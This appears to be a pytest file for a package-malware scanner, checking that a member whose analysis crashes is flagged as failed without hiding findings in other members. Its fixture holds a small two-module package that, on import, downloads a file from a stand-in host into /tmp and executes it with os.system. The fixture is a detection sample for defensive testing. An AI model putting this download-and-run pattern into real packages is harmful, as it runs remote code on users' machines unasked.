"""What breaks the analysis of one member costs that member: the others are judged together as always."""

from __future__ import annotations

from typing import TYPE_CHECKING

import pytest

from scanner.behaviour import layering, reports
from scanner.behaviour.module import walk
from scanner.model import Kind, Outcome, Role
from scanner.ruleset import Ruleset
from tests.hostile.judged import inspected, judge
from tests.hostile.probe_kit import wheel

if TYPE_CHECKING:
    import ast
    from collections.abc import Mapping

    from scanner.behaviour.events import ModuleReport
    from scanner.behaviour.facts import Facts

#: A chain over two modules: only together do they say that the download starts at import.
FILES = {
    "inert_probe/__init__.py": "from .fetch import go\ngo('https://stage.example.invalid/marker')\n",
    "inert_probe/fetch.py": "import os, urllib.request\n\n\ndef go(url):\n"
    "    urllib.request.urlretrieve(url, '/tmp/marker')\n    os.system('/tmp/marker')\n",
}
POISON = {"inert_probe/poison.py": "import subprocess\nPOISON = subprocess.PIPE\n"}


@pytest.fixture(scope="module")
def rules() -> Ruleset:
    return Ruleset.load()


def _is_poison(tree: ast.Module) -> bool:
    return any(getattr(getattr(node, "targets", [None])[0], "id", "") == "POISON" for node in tree.body)


def _breaking_walk(tree: ast.Module, aliases: Mapping[str, str] | None = None) -> ModuleReport:
    if _is_poison(tree):
        raise ZeroDivisionError
    return walk(tree, aliases)


def test_a_member_that_breaks_the_walk_loses_its_own_evidence_only(
    rules: Ruleset, monkeypatch: pytest.MonkeyPatch
) -> None:
    alone = {(f.rule, f.member, f.severity) for f in inspected(wheel(FILES), rules).findings}
    assert any(rule == "download-run" for rule, _, _ in alone)
    monkeypatch.setattr(reports, "walk", _breaking_walk)
    together = inspected(wheel(FILES | POISON), rules).findings
    failed = [f for f in together if f.rule == "analysis-failed"]
    assert [(f.member, f.kind, f.role) for f in failed] == [("inert_probe/poison.py", Kind.LIMITS, Role.IMPORT)]
    assert "ZeroDivisionError" in failed[0].snippet
    assert {(f.rule, f.member, f.severity) for f in together if f.member != "inert_probe/poison.py"} == alone


def test_a_member_that_breaks_its_layers_loses_its_own_evidence_only(
    rules: Ruleset, monkeypatch: pytest.MonkeyPatch
) -> None:
    commands = layering._in_commands

    def breaking(facts: Facts) -> object:
        if facts.member.name == "inert_probe/poison.py":
            raise MemoryError
        return commands(facts)

    monkeypatch.setattr(layering, "_in_commands", breaking)
    found = inspected(wheel(FILES | POISON), rules).findings
    assert {f.member for f in found if f.rule == "analysis-failed"} == {"inert_probe/poison.py"}
    assert "download-run" in {f.rule for f in found}


def test_an_artifact_with_a_member_that_broke_the_analysis_is_never_clear(
    rules: Ruleset, monkeypatch: pytest.MonkeyPatch
) -> None:
    assert judge(wheel(POISON), rules).outcome is Outcome.CLEAR
    monkeypatch.setattr(reports, "walk", _breaking_walk)
    assert judge(wheel(POISON), rules).outcome is Outcome.UNSCANNABLE
